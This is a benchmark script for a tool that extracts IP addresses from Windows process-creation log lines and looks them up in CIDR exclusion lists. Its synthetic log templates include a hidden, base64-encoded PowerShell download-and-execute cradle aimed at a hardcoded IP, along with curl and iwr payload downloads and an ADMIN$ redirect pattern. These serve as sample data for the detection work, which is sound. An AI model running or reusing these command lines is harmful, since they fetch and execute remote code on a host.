/**
 * `npm run bench:detect`: throughput of extraction and of exclusion lookups, each against a baseline measured in the
 * same run. Prints `name: value unit` lines. Not part of `npm test`.
 */
import { parseIPv4 } from '../src/detect/addressText.js';
import { extractAddresses } from '../src/detect/extractAddresses.js';
import { compileExclusions } from '../src/exclusions/compileExclusions.js';
import type { CidrEntry } from '../src/exclusions/parseCidrEntry.js';

const LINES = 500_000;
const CIDRS = 100_000;
const LOOKUPS = 1_000_000;
const LINEAR_LOOKUPS = 2_000;

// Deterministic PRNG (mulberry32) so every run measures the same input.
let state = 0x5eed;
function random(): number {
  state = (state + 0x6d2b79f5) >>> 0;
  let t = state;
  t = Math.imul(t ^ (t >>> 15), t | 1);
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}
const int = (n: number): number => Math.floor(random() * n);
const pick = <T>(items: readonly T[]): T => items[int(items.length)]!;
const quad = (): string => `${1 + int(222)}.${int(256)}.${int(256)}.${int(256)}`;

const users = ['alice', 'bob', 'svc_backup', 'admin', 'jdoe'];
const encoded = [
  `IEX (New-Object Net.WebClient).DownloadString('http://45.9.148.3/a')`,
  'Get-Process | Where-Object { $_.CPU -gt 100 } | Stop-Process -Force',
].map((s) => Buffer.from(s, 'utf16le').toString('base64'));

// Shapes seen in real 4688 data: most lines carry no address at all; some carry versions, lab/private addresses,
// and a few public addresses, IPv6 and encoded commands.
const templates: readonly (() => string)[] = [
  () => `"C:\\Windows\\system32\\svchost.exe" -k netsvcs -p -s ${pick(['Schedule', 'BITS', 'Winmgmt', 'gpsvc'])}`,
  () => `C:\\Windows\\System32\\RuntimeBroker.exe -Embedding`,
  () => `"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --field-trial-handle=${int(9999)},i,${int(99999)} --lang=en-US --renderer-client-id=${int(200)}`,
  () => `powershell.exe -ExecutionPolicy Bypass -NoProfile -File C:\\Scripts\\${pick(['backup', 'inventory', 'cleanup'])}.ps1 -Days ${int(30)}`,
  () => `cmd.exe /c dir C:\\Users\\${pick(users)}\\Documents /s /b > C:\\Temp\\list${int(100)}.txt`,
  () => `\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1`,
  () => `"C:\\Windows\\system32\\cmd.exe" /c echo %date% %time% >> C:\\Logs\\run.log`,
  () => `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NonInteractive -Command "Get-Service | Where-Object Status -eq Running"`,
  () => `C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding`,
  () => `"C:\\Windows\\System32\\taskhostw.exe" /RuntimeWide`,
  () => `"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\${100 + int(30)}.0.${int(3000)}.${int(200)}\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService`,
  () => `"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.${int(30000)}.${int(10)}-0\\MsMpEng.exe"`,
  () => `cmd.exe /c ping -n 1 192.168.${int(256)}.${int(256)}`,
  () => `net use Z: \\\\10.${int(256)}.${int(256)}.${int(256)}\\share /persistent:no`,
  () => `cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__${int(1e9)}.${int(9)} 2>&1`,
  () => `curl.exe -s -o C:\\Temp\\a.bin http://${quad()}/files/${int(1000)}.bin`,
  () => `powershell -c "iwr http://${quad()}:${1024 + int(60000)}/p -OutFile p"`,
  () => `ping -6 2606:4700:${int(0xffff).toString(16)}::${int(0xffff).toString(16)}`,
  () => `powershell.exe -NoP -W Hidden -Enc ${pick(encoded)}`,
];
// Weights: index into templates; no-address shapes dominate.
const weights = [14, 10, 10, 8, 8, 8, 6, 6, 6, 6, 4, 2, 3, 2, 1, 2, 2, 1, 1];
const table: number[] = weights.flatMap((w, i) => new Array<number>(w).fill(i));

function generateLines(count: number): string[] {
  const lines = new Array<string>(count);
  for (let i = 0; i < count; i++) lines[i] = templates[pick(table)]!();
  return lines;
}

function mb(bytes: number): string {
  return (bytes / 1024 / 1024).toFixed(1);
}

function benchDetect(): void {
  const lines = generateLines(LINES);
  for (let i = 0; i < 20_000; i++) extractAddresses(lines[i]!); // warm-up
  let found = 0;
  let external = 0;
  const started = performance.now();
  for (const line of lines) {
    const addresses = extractAddresses(line);
    found += addresses.length;
    for (const a of addresses) if (a.kind === 'external') external++;
  }
  const seconds = (performance.now() - started) / 1000;

  // Baseline in the same run: the seed query's regex (first IPv4 per line only, no classification) over the same lines.
  const seed = /([^ ](\b25[0-5]|\b2[0-4][0-9]|\b[01]?[0-9][0-9]?)(\.(25[0-5]|2[0-4][0-9]|[01]?[0-9][0-9]?)){3}|(\b25[0-5]|\b2[0-4][0-9]|\b[01]?[0-9][0-9]?)(\.(25[0-5]|2[0-4][0-9]|[01]?[0-9][0-9]?)){3}[^ ])/;
  let seedHits = 0;
  const seedStarted = performance.now();
  for (const line of lines) if (seed.exec(line) !== null) seedHits++;
  const seedSeconds = (performance.now() - seedStarted) / 1000;

  console.log(`detect_lines: ${LINES} lines`);
  console.log(`detect_addresses_found: ${found} addresses`);
  console.log(`detect_external_found: ${external} addresses`);
  console.log(`detect_lines_per_s: ${Math.round(LINES / seconds)} lines/s`);
  console.log(`seed_regex_lines_with_match: ${seedHits} lines`);
  console.log(`seed_regex_lines_per_s: ${Math.round(LINES / seedSeconds)} lines/s`);
  console.log(`detect_speed_vs_seed_regex: ${(seedSeconds / seconds).toFixed(2)} x`);
}

function benchExclusions(): void {
  const cidrs: CidrEntry[] = [];
  const linear: { base: number; mask: number }[] = [];
  for (let i = 0; i < CIDRS; i++) {
    const bits = 16 + int(17);
    const mask = (0xffffffff << (32 - bits)) >>> 0;
    const base = (Math.floor(random() * 2 ** 32) & mask) >>> 0;
    const cidr = `${base >>> 24}.${(base >>> 16) & 255}.${(base >>> 8) & 255}.${base & 255}/${bits}`;
    cidrs.push({ cidr, source: cidr });
    linear.push({ base, mask });
  }
  const exclusions = compileExclusions({ cidrs, rules: [] }, new Date());
  const probes = Array.from({ length: 10_000 }, (_, i) =>
    i % 2 === 0 ? quad() : (() => {
      const { base } = linear[int(linear.length)]!;
      return `${base >>> 24}.${(base >>> 16) & 255}.${(base >>> 8) & 255}.${(base & 255) | int(2)}`;
    })(),
  );

  let hits = 0;
  let started = performance.now();
  for (let i = 0; i < LOOKUPS; i++) if (exclusions.match({ ip: probes[i % probes.length]! }) !== undefined) hits++;
  const fast = LOOKUPS / ((performance.now() - started) / 1000);

  // Baseline: the same question answered by scanning every CIDR, with the addresses already parsed (generous to it).
  const numeric = probes.map((p) => parseIPv4(p)!);
  let linearHits = 0;
  started = performance.now();
  for (let i = 0; i < LINEAR_LOOKUPS; i++) {
    const ip = numeric[i % numeric.length]!;
    for (let j = 0; j < linear.length; j++) {
      const c = linear[j]!;
      if (((ip & c.mask) >>> 0) === c.base) {
        linearHits++;
        break;
      }
    }
  }
  const slow = LINEAR_LOOKUPS / ((performance.now() - started) / 1000);
  console.log(`exclusion_cidrs: ${CIDRS} cidrs`);
  console.log(`exclusion_hit_ratio: ${(hits / LOOKUPS).toFixed(3)} ratio`);
  console.log(`exclusion_lookups_per_s: ${Math.round(fast)} lookups/s`);
  console.log(`exclusion_linear_lookups_per_s: ${Math.round(slow)} lookups/s`);
  console.log(`exclusion_linear_hit_ratio: ${(linearHits / LINEAR_LOOKUPS).toFixed(3)} ratio`);
  console.log(`exclusion_speedup_vs_linear: ${(fast / slow).toFixed(1)} x`);
}

benchDetect();
benchExclusions();
console.log(`detect_peak_rss_mb: ${mb(process.resourceUsage().maxRSS * 1024)} MB`);
